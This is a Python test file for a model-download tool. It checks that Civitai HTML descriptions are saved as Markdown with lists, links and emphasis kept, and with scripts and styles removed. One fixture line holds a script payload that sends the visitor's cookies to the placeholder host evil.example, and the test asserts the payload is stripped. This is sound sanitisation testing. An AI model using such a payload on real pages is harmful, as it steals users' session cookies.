"""A Civitai download writes the model's and the version's HTML descriptions into ``NAME.md`` as Markdown (as
ComfyUI-Model-Manager does): lists, links and emphasis survive, scripts vanish, and the file still reads back
into the same sections. Real download job against the fake upstream over loopback HTTP and real Redis."""
from __future__ import annotations

from pathlib import Path

import pytest

from shared.downloads.job import run_download
from shared.store.sidecar_files import parse_markdown
from tests.download_support import job_context, safetensors_bytes

#: What Civitai's rich-text editor produces (paragraph-wrapped list items, rel/target on links, a heading).
MODEL_HTML = (
    '<h1>Paper Cut Style</h1>'
    '<p>A LoRA for <strong>paper cut</strong> art, trained as <em>paper_cut_v2</em>.</p>'
    '<h3>How to use</h3>'
    '<ul><li><p>Weight: <code>0.6</code> to <code>0.8</code></p></li><li><p>Sampler: DPM++ 2M</p></li></ul>'
    '<p>Examples on <a target="_blank" rel="ugc" href="https://civitai.com/models/100">the model page</a>.</p>'
    '<script>document.location="https://evil.example/?c="+document.cookie</script>'
    '<style>p { display: none }</style>'
    '<p># tags: paper, cut</p>'
)
VERSION_HTML = "<p>Retrained on 2k images:</p><ol><li>sharper edges</li><li>less colour bleed</li></ol>"


@pytest.fixture
def settings_env(settings_env, upstream):  # type: ignore[no-untyped-def]
    settings_env.update({"DEPOT_CIVITAI_URL": upstream.url, "HF_ENDPOINT": upstream.url})
    return settings_env


def test_civitai_html_descriptions_are_written_as_markdown(settings, upstream):  # type: ignore[no-untyped-def]
    # Given a Civitai LoRA whose model and version descriptions are HTML with lists, links and a script
    data = safetensors_bytes(4096)
    upstream.add_civitai_model(100, "Paper Cut Style", "LORA", creator="alice", description=MODEL_HTML,
                               versions=[{"id": 200, "name": "v2", "baseModel": "SDXL 1.0",
                                          "trainedWords": ["papercut"], "description": VERSION_HTML,
                                          "files": [{"id": 300, "name": "papercut.safetensors", "data": data}],
                                          "images": []}])
    # When it is downloaded
    ctx, services = job_context(settings, {"url": f"{upstream.url}/models/100"})
    run_download(ctx, services)
    md = (Path(settings.store) / "loras" / "papercut.md").read_text()
    # Then the descriptions are Markdown: list items, the link, emphasis and code are kept
    assert "1. sharper edges\n2. less colour bleed" in md
    assert "* Weight: `0.6` to `0.8`\n* Sampler: DPM++ 2M" in md
    assert "[the model page](https://civitai.com/models/100)" in md
    assert "A LoRA for **paper cut** art, trained as *paper\\_cut\\_v2*." in md
    assert "### How to use" in md
    # And no markup, script or style is left
    assert "<" not in md.split("---", 2)[2]
    assert "evil.example" not in md and "cookie" not in md and "display" not in md
    # And the file reads back into the same sections: a '# ' line of the text does not open a section
    assert "\\# tags: paper, cut" in md
    parsed = parse_markdown(md)
    assert parsed["name"] == "Paper Cut Style" and parsed["trigger_words"] == ["papercut"]
    assert parsed["description"] == "Retrained on 2k images:\n\n1. sharper edges\n2. less colour bleed"
    body = md.split("# Paper Cut Style\n\n", 1)[1]
    assert body.startswith("Paper Cut Style\n===============\n\nA LoRA for") and "\\# tags" in body
